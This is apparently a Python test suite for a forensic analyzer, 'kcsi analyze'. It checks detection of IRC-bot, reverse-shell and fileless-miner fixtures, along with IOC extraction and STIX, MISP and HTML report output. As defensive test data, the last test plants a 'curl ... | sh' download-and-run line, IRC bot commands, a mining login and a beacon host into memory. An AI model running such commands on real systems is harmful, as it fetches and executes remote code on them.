"""kcsi analyze on the real fixtures: findings with evidence, IOCs, MITRE,
verdicts, custom YARA rules, and every report format (JSON schema keys, STIX
2.1 structure, MISP and Timesketch mandatory fields, HTML in a browser)."""
import html.parser
import json
import os
import re
import shutil
import subprocess

import kt
from kt import eq, fixture, jrun, run

SLEEP_SHA256 = '4add4bb89d8ca0e3b1bd861130ddd7ae0fd9617a8055de0a38c8d2ca1ac95723'
_cache = {}


def report(name):
    if name not in _cache:
        _cache[name] = jrun('analyze', '--format', 'json', fixture(name))
    return _cache[name]


def ids(r, sev_min=None):
    order = ['info', 'low', 'medium', 'high', 'critical']
    return [f['id'] for f in r['findings'] if sev_min is None or order.index(f['severity']) >= order.index(sev_min)]


def find(r, fid):
    return [f for f in r['findings'] if f['id'] == fid]


def iocs(r, typ=None):
    return {i['value']: i for i in r['iocs'] if typ is None or i['type'] == typ}


def test_report_schema():
    r = report('perlbot')
    for key in ('schema_version', 'verdict', 'score', 'container', 'processes', 'findings', 'iocs'):
        assert key in r, key
    for f in r['findings']:
        for key in ('id', 'severity', 'title', 'explanation', 'mitre', 'evidence'):
            assert key in f, (key, f)
        assert re.match(r'^KCSI-[A-Za-z0-9_-]+$', f['id']), f['id']
        assert f['severity'] in ('info', 'low', 'medium', 'high', 'critical'), f
        assert all(re.match(r'^T\d{4}(\.\d{3})?$', m) for m in f['mitre']), f['mitre']
    for i in r['iocs']:
        for key in ('type', 'value', 'source'):
            assert key in i, key


def test_perlbot_malicious_with_the_story():
    r = report('perlbot')
    eq(r['verdict'], 'malicious', 'verdict')
    masq = find(r, 'KCSI-MASQ-001')
    assert masq and masq[0]['evidence'][0]['pid'] == 15, masq
    deleted = find(r, 'KCSI-DELETED-001')
    assert any(e.get('path') == '/tmp/.ICE-unix/.journal' and e.get('fd') == 4 for f in deleted for e in f['evidence'])
    irc = find(r, 'KCSI-NET-IRC-001')
    assert any('127.6.6.6:6667' in e.get('connection', '') for f in irc for e in f['evidence']), irc
    proto = find(r, 'KCSI-PROTO-IRC-001')
    assert proto and any('NICK' in e.get('excerpt', '') or 'JOIN' in e.get('excerpt', '') for e in proto[0]['evidence'])
    assert any(e.get('has_address', True) and e.get('address') for e in proto[0]['evidence'])
    drop = find(r, 'KCSI-DROP-001')
    assert any(e.get('path') == '/tmp/perlbot.pl' for f in drop for e in f['evidence']), drop
    stage = find(r, 'KCSI-STAGE-001')
    assert any(e.get('path') == '/tmp/.ICE-unix/.loot' for f in stage for e in f['evidence']), stage
    secret = find(r, 'KCSI-SECRET-001')
    assert any('DB_PASSWORD' in f['title'] for f in secret), secret
    assert not any('s3cr3t-db-pass' in json.dumps(f) for f in secret), 'the secret value is masked'
    mitre = {m for f in r['findings'] for m in f['mitre']}
    assert {'T1036', 'T1070.004', 'T1071'} <= mitre, mitre
    ip = iocs(r)
    for v in ('127.6.6.6', '127.7.7.7', '198.51.100.23', 'http://198.51.100.23/x.sh'):
        assert v in ip, (v, sorted(ip))
    eq(ip['127.6.6.6']['class'], 'loopback', 'class')
    eq(ip['198.51.100.23']['class'], 'documentation', 'class')
    assert ip['127.6.6.6']['source'].startswith('connection'), 'connected peers first'
    eq(r['iocs'][0]['value'], '127.6.6.6', 'the connected peer is the first IOC')
    assert '#perlbot' in iocs(r, 'irc-channel')


def test_revshell_malicious():
    r = report('revshell')
    eq(r['verdict'], 'malicious', 'verdict')
    shell = find(r, 'KCSI-SHELL-001')
    assert shell and shell[0]['evidence'][0]['pid'] == 15, shell
    assert '127.6.6.7:4444' in shell[0]['evidence'][0]['connection'], shell
    assert '127.6.6.7' in iocs(r, 'ipv4')


def test_memfd_fileless():
    r = report('memfd')
    assert r['verdict'] in ('malicious', 'suspicious'), r['verdict']
    f = find(r, 'KCSI-FILELESS-001')
    assert f and f[0]['evidence'][0]['pid'] == 14, f
    assert SLEEP_SHA256 in iocs(r, 'sha256'), iocs(r, 'sha256')
    assert 'stratum+tcp://127.9.9.9:3333' in iocs(r, 'url')


def test_counter_clean():
    r = report('counter')
    eq(r['verdict'], 'clean', 'verdict')
    eq(ids(r, 'medium'), [], 'nothing above low')


def test_custom_yara_rule_with_addresses():
    rules = os.path.join(kt.tmpdir(), 'custom.yar')
    with open(rules, 'w') as f:
        f.write('rule pbkey_marker { meta: severity = "critical" mitre = "T1071" description = "bot key" '
                'strings: $k = "PBKEY-" condition: $k }\n')
    r = jrun('analyze', '--json', '--no-builtin-rules', '--yara', rules, fixture('perlbot'))
    hits = find(r, 'KCSI-YARA-pbkey_marker')
    assert hits, [f['id'] for f in r['findings']]
    mem = [e for f in hits for e in f['evidence'] if e['kind'] == 'yara' and 'address' in e]
    assert mem and all(e['pid'] == 15 for e in mem), mem
    # the address is where memgrep finds the same bytes
    grep = {h['address'] for h in jrun('memgrep', '--json', fixture('perlbot'), 'PBKEY-')}
    assert {e['address'] for e in mem} <= grep, (mem, grep)
    eq(hits[0]['severity'], 'critical', 'severity from the rule meta')
    eq(hits[0]['mitre'], ['T1071'], 'mitre from the rule meta')
    bad = os.path.join(kt.tmpdir(), 'bad.yar')
    with open(bad, 'w') as f:
        f.write('rule broken { condition: nonsense_identifier }\n')
    rc, _, err = run('analyze', '--yara', bad, fixture('perlbot'), check=False)
    eq(rc, 2, 'bad rules are a usage error')
    assert 'bad.yar' in err, err


def test_deterministic_and_defang():
    fixed = {'SOURCE_DATE_EPOCH': '1700000000'}  # the analysis time every report names
    a = run('analyze', '--format', 'json', fixture('perlbot'), env=fixed)[1]
    b = run('analyze', '--format', 'json', fixture('perlbot'), env=fixed)[1]
    eq(a, b, 'two runs')
    d = jrun('analyze', '--format', 'json', '--defang', fixture('perlbot'))
    vals = [i['value'] for i in d['iocs']]
    assert '198[.]51[.]100[.]23' in vals and 'hxxp[://]198[.]51[.]100[.]23/x[.]sh' in vals, vals
    _, text, _ = run('analyze', '--defang', fixture('perlbot'))
    assert b'198.51.100.23' not in text, 'text output defanged'


def test_stix_bundle_structure():
    b = json.loads(run('analyze', '--format', 'stix', fixture('perlbot'))[1])
    eq(b['type'], 'bundle', 'bundle')
    uuid = r'[0-9a-f]{8}-[0-9a-f]{4}-[1-5][0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$'
    assert re.match(r'^bundle--' + uuid, b['id'])
    objs = {o['id']: o for o in b['objects']}
    eq(len(objs), len(b['objects']), 'unique ids')
    ts = r'^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?Z$'
    required = {
        'identity': ['name'], 'malware': ['name', 'is_family'],
        'indicator': ['pattern', 'pattern_type', 'valid_from'],
        'relationship': ['relationship_type', 'source_ref', 'target_ref'],
        'observed-data': ['first_observed', 'last_observed', 'number_observed', 'object_refs'],
        'attack-pattern': ['name', 'external_references'], 'note': ['content', 'object_refs'],
        'report': ['name', 'published', 'object_refs'],
    }
    sco = {'ipv4-addr': ['value'], 'ipv6-addr': ['value'], 'url': ['value'], 'domain-name': ['value'],
           'email-addr': ['value'], 'file': ['hashes']}
    kinds = set()
    for o in b['objects']:
        kinds.add(o['type'])
        assert re.match(r'^[a-z0-9-]+--' + uuid, o['id']), o['id']
        eq(o['id'].split('--')[0], o['type'], 'id prefix')
        eq(o['spec_version'], '2.1', 'spec_version')
        if o['type'] in required:
            for k in ('created', 'modified'):
                assert re.match(ts, o[k]), (k, o[k])
            for k in required[o['type']]:
                assert k in o, (o['type'], k)
        else:
            assert o['type'] in sco, o['type']
            for k in sco[o['type']]:
                assert k in o, (o['type'], k)
        if o['type'] == 'indicator':
            eq(o['pattern_type'], 'stix', 'pattern_type')
            assert re.match(r"^\[[a-z0-9-]+:[a-z_.'A-Z0-9-]+ = '([^'\\]|\\.)*'\]$", o['pattern']), o['pattern']
        if o['type'] == 'relationship':
            assert o['source_ref'] in objs and o['target_ref'] in objs, o
        if o['type'] == 'observed-data':
            assert all(ref in objs for ref in o['object_refs'])
    assert {'identity', 'malware', 'indicator', 'relationship', 'observed-data'} <= kinds, kinds


def test_misp_event_fields():
    e = json.loads(run('analyze', '--format', 'misp', fixture('perlbot'))[1])['Event']
    for k in ('info', 'date', 'threat_level_id', 'analysis', 'distribution', 'Attribute', 'uuid'):
        assert k in e, k
    assert re.match(r'^\d{4}-\d\d-\d\d$', e['date'])
    eq(e['threat_level_id'], '1', 'high threat for a malicious verdict')
    types = {(a['type'], a['category']) for a in e['Attribute']}
    assert ('ip-dst', 'Network activity') in types and ('url', 'Network activity') in types, types
    assert ('sha256', 'Artifacts dropped') in types, types
    for a in e['Attribute']:
        for k in ('type', 'category', 'value', 'to_ids', 'uuid'):
            assert k in a, k
    assert any(t['name'] == 'misp-galaxy:mitre-attack-pattern="Masquerading - T1036"' for t in e['Tag'])


def test_timeline_lines():
    out = run('analyze', '--format', 'timeline', fixture('perlbot'))[1].decode().splitlines()
    events = [json.loads(l) for l in out]
    assert len(events) >= 4, events
    for ev in events:
        for k in ('message', 'datetime', 'timestamp_desc', 'timestamp'):
            assert k in ev, k
        assert re.match(r'^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}Z$', ev['datetime'])
    eq([e['timestamp'] for e in events], sorted(e['timestamp'] for e in events), 'order')
    msgs = ' '.join(e['message'] for e in events)
    assert 'checkpointed' in msgs and '/tmp/perlbot.pl' in msgs and '.journal' in msgs, msgs


class _Sections(html.parser.HTMLParser):
    def __init__(self):
        super().__init__()
        self.ids = set()
        self.external = []

    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        if 'id' in a:
            self.ids.add(a['id'])
        if tag in ('script', 'link', 'img') and (a.get('src') or a.get('href')):
            self.external.append((tag, a))


def test_html_report_offline_and_rendered():
    path = os.path.join(kt.tmpdir(), 'report.html')
    run('analyze', '--format', 'html', '-o', path, fixture('perlbot'))
    text = open(path).read()
    p = _Sections()
    p.feed(text)
    assert {'verdict', 'container', 'processes', 'connections', 'findings', 'iocs', 'timeline'} <= p.ids, p.ids
    eq(p.external, [], 'self-contained: no external scripts, styles or images')
    assert 'KCSI-MASQ-001' in text and '127.6.6.6' in text
    chrome = shutil.which('chromium') or shutil.which('chromium-browser')
    if not chrome:
        raise kt.Skip('chromium not installed (the HTML was checked without a browser)')
    flags = ['--headless', '--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run',
             '--disable-background-networking', '--disable-component-update', '--disable-sync',
             '--user-data-dir=' + os.path.join(kt.tmpdir(), 'chrome-profile')]
    dom = subprocess.run([chrome] + flags + ['--dump-dom', 'file://' + path], stdout=subprocess.PIPE,
                         stderr=subprocess.DEVNULL, timeout=120).stdout.decode()
    assert 'malicious' in dom and 'KCSI-NET-IRC-001' in dom, dom[:500]
    shot = os.path.join(kt.tmpdir(), 'report.png')
    subprocess.run([chrome] + flags + ['--screenshot=' + shot, '--window-size=1280,2000', 'file://' + path],
                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=120)
    assert os.path.getsize(shot) > 10000, 'screenshot'


def test_analyze_bad_input():
    rc, out, err = run('analyze', os.path.join(kt.HERE, 'bad', 'image-truncated-entry.tar'), check=False)
    eq(rc, 4, err)
    eq(out, b'', 'nothing on stdout')
    rc, _, err = run('analyze', '--format', 'pdf', fixture('counter'), check=False)
    eq(rc, 2, err)


def test_detects_planted_behaviour_in_a_clean_scene():
    """Text planted into the memory of the clean counter scene: IRC commands,
    a download-and-run line, a mining login and a host name.  The rules find
    them by what they are, with the addresses where they were planted."""
    import test_memory
    _, runs = test_memory._planted('probe-analyze', [])
    # in the heap: text in a page of a mapped file of the image is the image's own (docs/analyze.md, Indicators)
    heap = [v for v in jrun('maps', '--json', '--pid', '1', fixture('counter')) if v['kind'] == 'heap'][0]
    big = [r for r in runs if r[1] >= 3 * 4096 and int(heap['start'], 16) <= r[0] < int(heap['end'], 16)][0]
    va = big[0] + 64
    plants = [
        (va, b'NICK zx81\x00'),
        (va + 256, b'USER zx81 0 * :k3y\x00'),
        (va + 512, b'JOIN #ops-room\x00'),
        (va + 768, b'curl -fsSL http://203.0.113.9/a.sh | sh\x00'),
        (va + 1024, b'{"id":1,"method":"mining.authorize","params":["w","x"]}\x00'),
        (va + 1280, b'beacon update.evil-cdn.xyz every 60s\x00'),
    ]
    d, _ = test_memory._planted('probe-analyze', plants)
    r = jrun('analyze', '--format', 'json', '--no-builtin-rules', d)
    got = {f['id'] for f in r['findings']}
    for fid in ('KCSI-PROTO-IRC-001', 'KCSI-DL-001', 'KCSI-PROTO-STRATUM-001'):
        assert fid in got, (fid, sorted(got))
    irc = find(r, 'KCSI-PROTO-IRC-001')[0]
    addrs = {int(e['address'], 16) for e in irc['evidence'] if 'address' in e}
    assert {va, va + 256, va + 512} <= addrs, (hex(va), irc['evidence'])
    vals = iocs(r)
    assert vals['203.0.113.9']['class'] == 'documentation', vals.get('203.0.113.9')
    assert 'http://203.0.113.9/a.sh' in vals and '#ops-room' in vals and 'zx81' in vals, sorted(vals)
    assert 'update.evil-cdn.xyz' in vals, sorted(vals)
    eq(r['verdict'], 'malicious', 'verdict')
